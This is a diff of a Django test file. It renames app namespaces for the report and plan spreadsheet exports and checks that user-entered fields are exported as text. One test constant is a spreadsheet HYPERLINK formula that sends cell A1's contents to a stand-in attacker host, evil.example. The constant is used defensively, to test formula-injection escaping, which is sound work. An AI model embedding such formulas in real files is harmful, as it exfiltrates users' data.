@@ -13,9 +13,11 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from catalog.services import COLUMNS, edition_import
+from delivery.models import PlanItem, ServiceReport
 from directory.models import Role
-from procurement.models import PlanItem, QualificationApplication, ServiceReport
+from procurement.models import QualificationApplication
 from procurement.services.agencies import roster_snapshot_xlsx
+from tests.delivery.reports.builders import END, START, approved_plan, make_report
 from tests.procurement.factories import (
     CertificateFactory,
     PackageFactory,
@@ -24,7 +26,6 @@ from tests.procurement.factories import (
     StaffFactory,
     qualified_agency,
 )
-from tests.procurement.reports.builders import END, START, approved_plan, make_report
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
 SUM = "=1+2"
@@ -155,7 +156,7 @@ def test_report_xlsx_export_writes_summary_reason_and_narrative_as_text(client, 
         values={plan_items["station"]: {"sessions": 2, "narrative": SUM}},
     )
     client.force_login(personas[role])
-    response = client.get(reverse("procurement:report-export", args=[package.pk]))
+    response = client.get(reverse("delivery:report-export", args=[package.pk]))
     assert response.status_code == 200
     assert_xlsx_text(response.content, HYPERLINK, AT, SUM)
 
@@ -164,7 +165,7 @@ def test_report_xlsx_export_writes_summary_reason_and_narrative_as_text(client, 
 @pytest.mark.parametrize("role", [Role.AGENCY_MANAGER, Role.TOWN_OFFICER, Role.BUREAU_ADMIN])
 def test_plan_xlsx_export_writes_item_notes_and_filed_names_as_text(client, personas, package, plan_items, role):
     client.force_login(personas[role])
-    response = client.get(reverse("procurement:plan-export", args=[package.pk]))
+    response = client.get(reverse("delivery:plan-export", args=[package.pk]))
     assert response.status_code == 200
     assert_xlsx_text(response.content, HYPERLINK, CMD, PLUS + "菜园", MINUS + "项目包")
 
